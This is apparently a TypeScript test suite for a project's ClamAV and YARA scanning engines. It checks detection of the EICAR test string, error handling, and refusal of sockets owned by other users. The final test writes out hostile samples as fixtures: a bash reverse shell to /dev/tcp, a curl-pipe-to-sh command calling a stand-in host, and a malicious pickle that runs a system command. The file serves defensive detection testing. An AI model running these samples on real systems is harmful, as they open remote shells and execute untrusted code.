/** Other people's scanners: Debian's clamav-daemon, with a signature file of our own, and yara. */
import assert from 'node:assert/strict';
import { type ChildProcess, spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync } from 'node:fs';
import { chmod, chown, mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { ClamAv, Yara } from '../../../src/security/engines/index.ts';
import { sandboxAvailability } from '../../../src/security/sandbox/index.ts';

const CLAMD = '/usr/sbin/clamd';
const skipClamd = existsSync(CLAMD) ? false : 'clamd is not installed (Debian: clamav-daemon)';
const sandbox = await sandboxAvailability();
const skipYara = !existsSync('/usr/bin/yara')
  ? 'yara is not installed'
  : sandbox.available
    ? false
    : `no sandbox: ${sandbox.reason}`;
/** In two parts, so that no scanner takes this file for it. */
const EICAR = `X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-${'STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'}`;
const signal = AbortSignal.timeout(120_000);

let folder: string;
let clamd: ChildProcess | undefined;
const socket = () => join(folder, 'clamd.ctl');

before(async () => {
  folder = await mkdtemp(join(tmpdir(), 'bitorch-engines-'));
  await chmod(folder, 0o755);
  if (!skipClamd) clamd = await startClamd();
});
after(async () => {
  clamd?.kill('SIGKILL');
  await rm(folder, { recursive: true, force: true });
});

async function startClamd(): Promise<ChildProcess> {
  const database = join(folder, 'database');
  await mkdir(database);
  const md5 = createHash('md5').update(EICAR).digest('hex');
  await writeFile(join(database, 'own.hdb'), `${md5}:${EICAR.length}:Test.Eicar\n`);
  const settings = [
    `DatabaseDirectory ${database}`,
    `LocalSocket ${socket()}`,
    'Foreground yes',
    'StreamMaxLength 1M',
  ];
  if (process.getuid?.() === 0) settings.push('User root');
  await writeFile(join(folder, 'clamd.conf'), `${settings.join('\n')}\n`);
  const child = spawn(CLAMD, ['-c', join(folder, 'clamd.conf')], { stdio: 'ignore' });
  for (let i = 0; i < 300 && !existsSync(socket()); i++)
    await new Promise((resolve) => setTimeout(resolve, 100));
  return child;
}

async function file(path: string, content: string | Uint8Array) {
  const location = join(folder, path);
  await writeFile(location, content);
  return { path, location };
}

test('ClamAV finds EICAR, names it, passes what is clean and says what it could not read', {
  skip: skipClamd,
}, async () => {
  const engine = new ClamAv({ address: socket() });
  const clean = await file('clean.bin', Buffer.alloc(700_000, 7));
  const eicar = await file('eicar.txt', EICAR);
  const large = await file('large.bin', Buffer.alloc(9_000_000, 7));
  const good = await engine.check([clean], signal);
  assert.deepEqual([good.state, good.hits, good.note], ['clean', [], '']);
  assert.match(good.version, /^ClamAV /);
  const bad = await engine.check([clean, eicar], signal);
  assert.deepEqual([bad.state, bad.hits], ['found', [{ path: 'eicar.txt', name: 'Test.Eicar.UNOFFICIAL' }]]);
  const partial = await engine.check([clean, large], signal);
  assert.equal(partial.state, 'partial');
  assert.match(partial.note, /Not read: large\.bin .*StreamMaxLength/);
});

test('a ClamAV that is not there, hangs up or talks nonsense is told, not passed over', async () => {
  const target = await file('x.bin', 'x');
  const missing = await new ClamAv({ address: join(folder, 'nothing.ctl') }).check([target], signal);
  assert.equal(missing.state, 'missing');
  for (const [talk, state] of [
    [(_: (text: string) => void, end: () => void) => end(), 'failed'],
    [(write: (text: string) => void) => write('y'.repeat(100_000)), 'failed'],
    [(write: (text: string) => void) => write('nonsense\0'), 'partial'],
  ] as const) {
    const server = createServer((peer) => {
      peer.on('error', () => undefined);
      talk(
        (text) => peer.write(text),
        () => peer.destroy(),
      );
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const { port } = server.address() as { port: number };
    const result = await new ClamAv({ address: `127.0.0.1:${port}` }).check([target], signal);
    assert.equal(result.state, state, result.note);
    server.close();
  }
});

const isRoot = process.getuid?.() === 0;

test('a socket of another user is not asked, whatever it would answer', {
  skip: isRoot ? false : 'only root can make a socket of another user',
}, async (t) => {
  let asked = 0;
  const server = createServer((peer) => {
    asked++;
    peer.on('error', () => undefined).end('stream: OK\0');
  });
  t.after(() => server.close());
  const home = join(folder, 'strangers');
  await mkdir(home);
  const path = join(home, 'clamd.ctl');
  await new Promise<void>((resolve) => server.listen(path, resolve));
  const target = await file('y.bin', 'y');
  const stateOf = async (address: string) => (await new ClamAv({ address }).check([target], signal)).state;
  assert.notEqual(await stateOf(path), 'missing');
  const before = asked;
  assert.ok(before > 0);
  await chown(path, 54_321, 54_321);
  assert.equal(await stateOf(path), 'missing');
  await chown(path, 0, 0);
  await chown(home, 54_321, 54_321);
  assert.equal(await stateOf(path), 'missing');
  await symlink(path, join(folder, 'link.ctl'));
  assert.equal(await stateOf(join(folder, 'link.ctl')), 'missing');
  assert.equal(asked, before);
});

test('YARA: many files are one run', { skip: skipYara }, async () => {
  const files = await Promise.all(
    Array.from({ length: 1500 }, (_, n) => file(`many-${n}.bin`, n === 1499 ? `--${EICAR}--` : `${n}`)),
  );
  const { state, hits } = await new Yara().check(files, signal);
  assert.deepEqual([state, hits], ['found', [{ path: 'many-1499.bin', name: 'eicar_test_file' }]]);
});

test('YARA: our rules find what they are for, in any file, and nothing in noise', {
  skip: skipYara,
}, async () => {
  const engine = new Yara();
  const noise = Uint8Array.from({ length: 500_000 }, (_, i) => (i * 2654435761) >>> 13);
  const files = await Promise.all([
    file('noise.bin', noise),
    file('README.md', '# A model\n\nRun `npm ci`, then ask. pickle, os.system and curl are words.\n'),
    file('eicar with space.txt', `--${EICAR}--`),
    file('shell.md', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'),
    file('fetch.json', '{"x": "curl -s http://a.example/x | sh"}'),
    file('pickle.bin', 'cos\nsystem\n(S"id"\ntR.'),
  ]);
  const { state, hits, version } = await engine.check(files, signal);
  assert.equal(state, 'found');
  assert.match(version, /^\d/);
  assert.deepEqual(
    hits.map(({ path, name }) => `${path}: ${name}`),
    [
      'eicar with space.txt: eicar_test_file',
      'shell.md: reverse_shell',
      'fetch.json: download_and_run',
      'pickle.bin: pickle_runs_a_command',
    ],
  );
  const broken = await file('broken.yar', 'rule {');
  const failed = await new Yara({ rules: broken.location }).check(files, signal);
  assert.equal(failed.state, 'failed');
});
